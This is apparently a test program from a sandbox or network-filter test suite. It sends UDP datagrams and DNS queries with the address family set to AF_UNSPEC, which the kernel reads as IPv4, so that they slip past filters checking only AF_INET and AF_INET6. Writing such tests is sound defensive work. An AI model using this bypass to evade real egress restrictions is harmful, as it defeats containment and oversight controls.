/* hostile_udp.c: class 1 of issue 25: datagrams whose address says AF_UNSPEC.
 *
 * The kernel's udp_sendmsg reads a sockaddr_in whose family is AF_UNSPEC as AF_INET (for old programs), so a check
 * that routes only AF_INET and AF_INET6 addresses, and lets "other families" pass, lets the datagram go wherever
 * sin_addr says. The socket is an ordinary IPv4 UDP socket.
 *
 *   hostile_udp sendto|sendmsg|sendmmsg HOST PORT   one datagram to HOST:PORT, the address's family AF_UNSPEC
 *   hostile_udp dns NAME                             a query for NAME, sent that way to the nameserver of
 *                                                    /etc/resolv.conf (port 53)
 */
#include "hostile.h"

static int usage(void)
{
	fprintf(stderr, "usage: hostile_udp sendto|sendmsg|sendmmsg HOST PORT | dns NAME\n");
	return 2;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return usage();
	hostile_start(argc, argv);
	const char *how = argv[1];
	struct sockaddr_in to;
	uint8_t buf[512];
	size_t len;
	if (strcmp(how, "dns") == 0) {
		hostile_nameserver(&to);
		len = dns_query(buf, 0x5155, argv[2]);
		how = "sendto";
	} else if (argc == 4) {
		hostile_addr(argv[2], argv[3], &to);
		len = strlen(strcpy((char *)buf, "hostile AF_UNSPEC datagram\n"));
	} else {
		return usage();
	}
	to.sin_family = AF_UNSPEC; /* the whole attack */

	int fd = (int)step_libc("socket(AF_INET, SOCK_DGRAM)", socket(AF_INET, SOCK_DGRAM, 0));
	if (fd < 0)
		return 1;
	struct iovec iov = { .iov_base = buf, .iov_len = len };
	struct msghdr m = { .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov, .msg_iovlen = 1 };
	long rc;
	if (strcmp(how, "sendto") == 0) {
		rc = step_libc("sendto(AF_UNSPEC)", sendto(fd, buf, len, 0, (struct sockaddr *)&to, sizeof(to)));
	} else if (strcmp(how, "sendmsg") == 0) {
		rc = step_libc("sendmsg(AF_UNSPEC)", sendmsg(fd, &m, 0));
	} else if (strcmp(how, "sendmmsg") == 0) {
		struct mmsghdr mm = { .msg_hdr = m };
		rc = step_libc("sendmmsg(AF_UNSPEC)", sendmmsg(fd, &mm, 1, 0));
	} else {
		return usage();
	}
	if (rc >= 0 && strcmp(argv[1], "dns") == 0)
		dns_wait_reply(fd, "reply");
	return 0;
}
